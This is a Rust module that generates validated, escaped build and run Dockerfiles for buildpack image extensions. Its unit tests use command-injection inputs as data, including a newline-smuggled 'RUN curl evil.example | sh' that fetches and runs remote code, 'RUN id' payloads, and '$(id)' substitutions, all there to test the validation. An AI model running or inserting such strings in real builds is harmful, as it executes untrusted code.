//! Dockerfiles that can only be what the image extension spec allows. The types are at the
//! crate root too; this module adds the kinds of [`Dockerfile`], [`Build`] and [`Run`].
//!
//! - A [`BuildDockerfile`] always starts `ARG base_image` / `FROM ${base_image}`, has one stage and
//!   only the instructions the spec lists (`ARG`, `COPY`, `ENV`, `LABEL`, `RUN`, `USER`, `WORKDIR`
//!   are offered here).
//! - A [`RunDockerfile`] either switches the run image (a single `FROM <image>` line, with a parsed
//!   [`ImageReference`]) or extends `${base_image}` like a build Dockerfile, optionally marked
//!   rebasable with the `io.buildpacks.rebasable` label.
//!
//! Every value that reaches a line is validated where it enters: names must be identifiers, values
//! may not contain a line break or NUL, shell words are single-quoted unless they are made only of
//! characters that mean nothing to a shell, and `ENV`/`LABEL`/`ARG` values are double-quoted with
//! `\`, `"` and `$` escaped, so no value can add an instruction, run a command or expand a variable.

mod check;
mod shell;

pub use check::DockerfileError;
pub use shell::ShellCommand;

use crate::image_ref::ImageReference;
use check::{check_identifier, check_path, check_single_line, double_quoted};
use std::fmt;
use std::marker::PhantomData;

/// The build arguments every platform passes when it applies a Dockerfile.
pub const BASE_IMAGE_ARG: &str = "base_image";
/// A unique id per build; referencing it in a `RUN` busts the layer cache from that point on.
pub const BUILD_ID_ARG: &str = "build_id";
/// The user id of the image being extended.
pub const USER_ID_ARG: &str = "user_id";
/// The group id of the image being extended.
pub const GROUP_ID_ARG: &str = "group_id";
/// The label that declares a run-image extension safe to rebase.
pub const REBASABLE_LABEL: &str = "io.buildpacks.rebasable";

/// The kind of a [`BuildDockerfile`] (`Dockerfile<Build>`): it extends the build image.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Build {}
/// The kind of a `Dockerfile<Run>` ([`RunDockerfile::extend`]): it extends the run image, and
/// only it can be marked [`rebasable`](Dockerfile::rebasable).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Run {}

/// A single-stage Dockerfile over `${base_image}`, built one validated instruction at a time.
///
/// Use it as [`BuildDockerfile`], or as the body of [`RunDockerfile::Extend`].
///
/// ```
/// use cnb_extension::{BuildDockerfile, ShellCommand};
///
/// let dockerfile = BuildDockerfile::new()
///     .user_root()
///     .run(ShellCommand::new("microdnf").args(["-y", "install", "nodejs"]))?
///     .env("NODE_VERSION", "20")?
///     .restore_user();
/// assert_eq!(
///     dockerfile.to_string(),
///     "ARG base_image\nFROM ${base_image}\n\nUSER root\nRUN microdnf -y install nodejs\n\
///      ENV NODE_VERSION=\"20\"\nARG user_id\nARG group_id\nUSER ${user_id}:${group_id}\n"
/// );
/// # Ok::<(), cnb_extension::DockerfileError>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
#[must_use]
pub struct Dockerfile<Kind> {
    lines: Vec<String>,
    kind: PhantomData<Kind>,
}

/// A `build.Dockerfile`: applied to the build image before buildpacks run.
pub type BuildDockerfile = Dockerfile<Build>;

impl<Kind> Default for Dockerfile<Kind> {
    fn default() -> Self {
        Self {
            lines: Vec::new(),
            kind: PhantomData,
        }
    }
}

impl<Kind> Dockerfile<Kind> {
    /// A Dockerfile that starts `ARG base_image` / `FROM ${base_image}`.
    pub fn new() -> Self {
        Self::default()
    }

    fn push(mut self, line: String) -> Self {
        self.lines.push(line);
        self
    }

    /// A `# comment` line, to explain a choice to whoever reads the generated Dockerfile.
    ///
    /// # Errors
    /// When `text` is not a single line.
    pub fn comment(self, text: &str) -> Result<Self, DockerfileError> {
        check_single_line("comment", text)?;
        Ok(self.push(format!("# {text}")))
    }

    /// `USER root`, to install packages.
    pub fn user_root(self) -> Self {
        self.push("USER root".to_string())
    }

    /// Restores the user of the image being extended from the `user_id` and `group_id` build
    /// arguments the platform passes: `ARG user_id`, `ARG group_id`, `USER ${user_id}:${group_id}`.
    pub fn restore_user(self) -> Self {
        self.push(format!("ARG {USER_ID_ARG}"))
            .push(format!("ARG {GROUP_ID_ARG}"))
            .push(format!("USER ${{{USER_ID_ARG}}}:${{{GROUP_ID_ARG}}}"))
    }

    /// `ARG name` (without a default), e.g. for a build argument from `extend-config.toml` or for
    /// [`BUILD_ID_ARG`].
    ///
    /// # Errors
    /// When `name` is not an identifier.
    pub fn arg(self, name: &str) -> Result<Self, DockerfileError> {
        check_identifier("ARG name", name)?;
        Ok(self.push(format!("ARG {name}")))
    }

    /// `ARG name="default"`.
    ///
    /// # Errors
    /// When `name` is not an identifier or `default` is not a single line.
    pub fn arg_with_default(self, name: &str, default: &str) -> Result<Self, DockerfileError> {
        check_identifier("ARG name", name)?;
        let value = double_quoted("ARG default", default)?;
        Ok(self.push(format!("ARG {name}={value}")))
    }

    /// `RUN <command>` in shell form.
    ///
    /// # Errors
    /// When the command's program is not a plain word or an argument is not a single line.
    #[allow(clippy::needless_pass_by_value)] // by value, so that builder chains read naturally
    pub fn run(self, command: ShellCommand) -> Result<Self, DockerfileError> {
        command.validate()?;
        Ok(self.push(format!("RUN {command}")))
    }

    /// `ENV name="value"`.
    ///
    /// # Errors
    /// When `name` is not an identifier or `value` is not a single line.
    pub fn env(self, name: &str, value: &str) -> Result<Self, DockerfileError> {
        check_identifier("ENV name", name)?;
        let value = double_quoted("ENV value", value)?;
        Ok(self.push(format!("ENV {name}={value}")))
    }

    /// `LABEL key="value"`. Keys are reverse-DNS style: lower-case letters, digits, `.` and `-`.
    ///
    /// # Errors
    /// When `key` is not of that form or `value` is not a single line.
    pub fn label(self, key: &str, value: &str) -> Result<Self, DockerfileError> {
        let mut bytes = key.bytes();
        let valid_key = bytes.next().is_some_and(|b| b.is_ascii_lowercase())
            && bytes
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'.' || b == b'-');
        if !valid_key {
            return Err(DockerfileError::InvalidName {
                what: "LABEL key",
                name: key.to_string(),
                expected: "a lower-case letter followed by lower-case letters, digits, '.' or '-'",
            });
        }
        let value = double_quoted("LABEL value", value)?;
        Ok(self.push(format!("LABEL {key}={value}")))
    }

    /// `WORKDIR <path>`.
    ///
    /// # Errors
    /// When the path is not absolute or holds characters other than letters, digits and `._-+@/`.
    pub fn workdir(self, path: &str) -> Result<Self, DockerfileError> {
        check_path("WORKDIR path", path)?;
        if !path.starts_with('/') {
            return Err(DockerfileError::InvalidPath {
                what: "WORKDIR path (must be absolute)",
                path: path.to_string(),
            });
        }
        Ok(self.push(format!("WORKDIR {path}")))
    }

    /// `COPY <source> <destination>`, from the extension's build context.
    ///
    /// # Errors
    /// When a path holds characters other than letters, digits and `._-+@/`.
    pub fn copy(self, source: &str, destination: &str) -> Result<Self, DockerfileError> {
        check_path("COPY source", source)?;
        check_path("COPY destination", destination)?;
        Ok(self.push(format!("COPY {source} {destination}")))
    }

    /// Writes a file into the image: `RUN mkdir -p <dir> && printf '%b' '<contents>' > <path>
    /// && chmod <mode> <path>`, with the contents encoded so that any text (quotes, `$`,
    /// backslashes, several lines) arrives byte for byte and nothing in it reaches the shell.
    ///
    /// Use it to hand information to a companion buildpack: `ENV` from a `build.Dockerfile` does
    /// not reach buildpacks (the lifecycle filters their environment to an allow-list), a file
    /// does.
    ///
    /// # Errors
    /// When `path` is not absolute or holds characters other than letters, digits and `._-+@/`,
    /// `contents` holds a NUL, or `mode` is above `0o7777`.
    pub fn write_file(
        self,
        path: &str,
        contents: &str,
        mode: u32,
    ) -> Result<Self, DockerfileError> {
        check_path("file path", path)?;
        let Some((dir, _)) = path.rsplit_once('/').filter(|_| path.starts_with('/')) else {
            return Err(DockerfileError::InvalidPath {
                what: "file path (must be absolute)",
                path: path.to_string(),
            });
        };
        if mode > 0o7777 {
            return Err(DockerfileError::InvalidName {
                what: "file mode",
                name: format!("{mode:o}"),
                expected: "a mode of at most 7777 (octal)",
            });
        }
        if contents.contains('\0') {
            return Err(DockerfileError::UnsafeValue {
                what: "file contents",
                value: contents.to_string(),
            });
        }
        // printf's %b expands backslash escapes in its argument: escape every backslash, then
        // encode line breaks, so the argument is a single line and expands to `contents`.
        let encoded = contents
            .replace('\\', r"\\")
            .replace('\n', r"\n")
            .replace('\r', r"\r")
            .replace('\'', r"'\''");
        let dir = if dir.is_empty() { "/" } else { dir };
        Ok(self.push(format!(
            "RUN mkdir -p {dir} && printf '%b' '{encoded}' > {path} && chmod {mode:o} {path}"
        )))
    }

    /// The number of instructions after `FROM`.
    #[must_use]
    pub fn instruction_count(&self) -> usize {
        self.lines.len()
    }
}

impl Dockerfile<Run> {
    /// Marks the extended run image as safe to rebase: `LABEL io.buildpacks.rebasable=true`.
    /// Only declare it when the instructions change nothing a rebase would break (no changes
    /// under paths the new base image might also change).
    pub fn rebasable(self) -> Self {
        self.push(format!("LABEL {REBASABLE_LABEL}=true"))
    }
}

impl<Kind> fmt::Display for Dockerfile<Kind> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "ARG {BASE_IMAGE_ARG}")?;
        writeln!(f, "FROM ${{{BASE_IMAGE_ARG}}}")?;
        writeln!(f)?;
        for line in &self.lines {
            writeln!(f, "{line}")?;
        }
        Ok(())
    }
}

/// A `run.Dockerfile`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RunDockerfile {
    /// `FROM <image>` and nothing else: the lifecycle switches the app's run image to `image`
    /// (the last extension to switch wins) without building anything.
    Switch(ImageReference),
    /// Instructions applied over `${base_image}`, the run image.
    Extend(Dockerfile<Run>),
}

impl RunDockerfile {
    /// A run image switch.
    #[must_use]
    pub fn switch_to(image: ImageReference) -> Self {
        Self::Switch(image)
    }

    /// Starts the instructions of a run image extension (`ARG base_image` / `FROM
    /// ${base_image}`); `.into()` makes the finished one a `RunDockerfile`.
    ///
    /// ```
    /// use cnb_extension::{RunDockerfile, ShellCommand};
    ///
    /// let run: RunDockerfile = RunDockerfile::extend()
    ///     .user_root()
    ///     .run(ShellCommand::new("true"))?
    ///     .restore_user()
    ///     .rebasable()
    ///     .into();
    /// assert!(run.to_string().ends_with("LABEL io.buildpacks.rebasable=true\n"));
    /// # Ok::<(), cnb_extension::DockerfileError>(())
    /// ```
    pub fn extend() -> Dockerfile<Run> {
        Dockerfile::new()
    }
}

impl fmt::Display for RunDockerfile {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Switch(image) => writeln!(f, "FROM {image}"),
            Self::Extend(dockerfile) => dockerfile.fmt(f),
        }
    }
}

impl From<Dockerfile<Run>> for RunDockerfile {
    fn from(dockerfile: Dockerfile<Run>) -> Self {
        Self::Extend(dockerfile)
    }
}

#[cfg(test)]
mod tests {
    use super::check::IDENTIFIER;
    use super::*;

    #[test]
    fn build_dockerfile_always_starts_with_the_base_image() {
        let rendered = BuildDockerfile::new().to_string();
        assert!(rendered.starts_with("ARG base_image\nFROM ${base_image}\n"));
        assert_eq!(rendered.matches("FROM").count(), 1);
    }

    /// No value reaches a Dockerfile as more than the one instruction it was given to: every
    /// accepted value renders on one line, and the line starts with that instruction.
    #[test]
    fn fuzz_dockerfile_values() {
        let lines = |dockerfile: &BuildDockerfile| dockerfile.to_string().matches('\n').count();
        let expected = lines(&BuildDockerfile::new().env("VALUE", "x").unwrap());
        fuzz_check::fuzz_text(
            "Dockerfile values (cnb-extension)",
            &[
                "20.11.1-1.module+el8.9.0",
                "a'b\"c $(id) `id` ${x} \\ ; && |",
                "multi\nline\r\n",
            ],
            |value| {
                for (keyword, dockerfile) in [
                    (
                        "RUN ",
                        BuildDockerfile::new().run(ShellCommand::new("install").arg(value)),
                    ),
                    ("ENV ", BuildDockerfile::new().env("VALUE", value)),
                    ("LABEL ", BuildDockerfile::new().label("value", value)),
                    (
                        "RUN ",
                        BuildDockerfile::new().write_file("/tmp/value", value, 0o644),
                    ),
                    ("WORKDIR ", BuildDockerfile::new().workdir(value)),
                ] {
                    let Ok(dockerfile) = dockerfile else { continue };
                    let text = dockerfile.to_string();
                    assert_eq!(lines(&dockerfile), expected, "{text:?}");
                    assert!(!text.contains(['\r', '\0']), "{text:?}");
                    let last = text.lines().last().unwrap_or_default();
                    assert!(last.starts_with(keyword), "{text:?}");
                }
            },
        );
    }
    #[test]
    fn env_label_and_arg_values_are_escaped() {
        let dockerfile = BuildDockerfile::new()
            .env("A", r#"say "hi" to $USER \ now"#)
            .unwrap()
            .label("org.example.version", "1.0 $x")
            .unwrap()
            .arg_with_default("MODE", "a\"b")
            .unwrap();
        let rendered = dockerfile.to_string();
        assert!(
            rendered.contains(r#"ENV A="say \"hi\" to \$USER \\ now""#),
            "{rendered}"
        );
        assert!(rendered.contains(r#"LABEL org.example.version="1.0 \$x""#));
        assert!(rendered.contains(r#"ARG MODE="a\"b""#));
    }

    #[test]
    fn names_are_validated() {
        assert!(BuildDockerfile::new().env("A B", "x").is_err());
        assert!(BuildDockerfile::new().env("1A", "x").is_err());
        assert!(BuildDockerfile::new().env("", "x").is_err());
        assert!(BuildDockerfile::new().arg("a=b").is_err());
        assert!(BuildDockerfile::new().label("Org.Example", "x").is_err());
        assert!(BuildDockerfile::new().label("a b", "x").is_err());
        assert!(BuildDockerfile::new().env("A", "x\ny").is_err());
        let error = BuildDockerfile::new().env("A-B", "x").unwrap_err();
        assert_eq!(
            error.to_string(),
            "invalid ENV name \"A-B\": expected a letter or '_' followed by letters, digits or '_'"
        );
    }

    #[test]
    fn write_file_delivers_any_text_byte_for_byte() {
        let contents = "major = 20\nstack = \"ubi8\"\nodd: $(id) `id` 'q' \\n \\ %s %b\r\nend";
        let dockerfile = BuildDockerfile::new()
            .write_file("/usr/share/x/runtime.toml", contents, 0o644)
            .unwrap()
            .to_string();
        let run = dockerfile.lines().last().unwrap();
        assert_eq!(dockerfile.lines().count(), 4, "{dockerfile}");
        // Run the line as the image's shell would, with / moved into a temporary directory.
        let root = tempfile::tempdir().unwrap();
        let script = run.strip_prefix("RUN ").unwrap().replace(
            "/usr/share/x",
            &format!("{}/usr/share/x", root.path().display()),
        );
        let status = std::process::Command::new("sh")
            .args(["-c", &script])
            .status()
            .unwrap();
        assert!(status.success(), "{script}");
        let written = root.path().join("usr/share/x/runtime.toml");
        assert_eq!(std::fs::read_to_string(&written).unwrap(), contents);
        let mode = std::os::unix::fs::PermissionsExt::mode(
            &std::fs::metadata(&written).unwrap().permissions(),
        );
        assert_eq!(mode & 0o777, 0o644);
    }

    #[test]
    fn write_file_rejects_bad_paths_and_nul() {
        for (path, contents, mode) in [
            ("relative/x", "", 0o644),
            ("/a b/x", "", 0o644),
            ("/x/$y", "", 0o644),
            ("/x", "a\0b", 0o644),
            ("/x", "", 0o10000),
        ] {
            let dockerfile = BuildDockerfile::new().write_file(path, contents, mode);
            assert!(dockerfile.is_err(), "{path:?} {contents:?} {mode:o}");
        }
    }

    #[test]
    fn comments_are_single_lines() {
        let dockerfile = BuildDockerfile::new().comment("why: $reasons").unwrap();
        assert!(dockerfile.to_string().ends_with("\n# why: $reasons\n"));
        assert!(BuildDockerfile::new().comment("a\nRUN id").is_err());
    }

    #[test]
    fn paths_are_validated() {
        assert!(BuildDockerfile::new().workdir("/opt/app-1").is_ok());
        assert!(BuildDockerfile::new().workdir("relative").is_err());
        assert!(BuildDockerfile::new().workdir("/a b").is_err());
        assert!(BuildDockerfile::new().workdir("/$HOME").is_err());
        assert!(
            BuildDockerfile::new()
                .copy("bin/tool", "/usr/local/bin/")
                .is_ok()
        );
        assert!(BuildDockerfile::new().copy("a\nRUN id", "/x").is_err());
    }

    #[test]
    fn run_dockerfile_switch_is_a_single_from_line() {
        let image: ImageReference = "localhost/run-nodejs-20:latest".parse().unwrap();
        assert_eq!(
            RunDockerfile::switch_to(image).to_string(),
            "FROM localhost/run-nodejs-20:latest\n"
        );
    }

    #[test]
    fn run_dockerfile_extension_can_be_rebasable() {
        let run: RunDockerfile = RunDockerfile::extend()
            .user_root()
            .run(ShellCommand::new("true"))
            .unwrap()
            .restore_user()
            .rebasable()
            .into();
        let rendered = run.to_string();
        assert!(rendered.starts_with("ARG base_image\nFROM ${base_image}\n"));
        assert!(rendered.ends_with("LABEL io.buildpacks.rebasable=true\n"));
    }

    /// Every error as an extension shows it, one snapshot per variant (`src/snapshots/`).
    #[test]
    fn messages() {
        let errors = [
            (
                "invalid_name",
                DockerfileError::InvalidName {
                    what: "ENV name",
                    name: "NODE VERSION=1\nRUN id".to_string(),
                    expected: IDENTIFIER,
                },
            ),
            (
                "unsafe_value",
                DockerfileError::UnsafeValue {
                    what: "RUN argument",
                    value: format!("20\nRUN curl evil.example | sh #{}", "x".repeat(100)),
                },
            ),
            (
                "invalid_path",
                DockerfileError::InvalidPath {
                    what: "COPY destination",
                    path: "/usr/share/$HOME".to_string(),
                },
            ),
        ];
        for (name, error) in errors {
            insta::assert_snapshot!(name, cnb_output::render_error(&error));
        }
    }
}
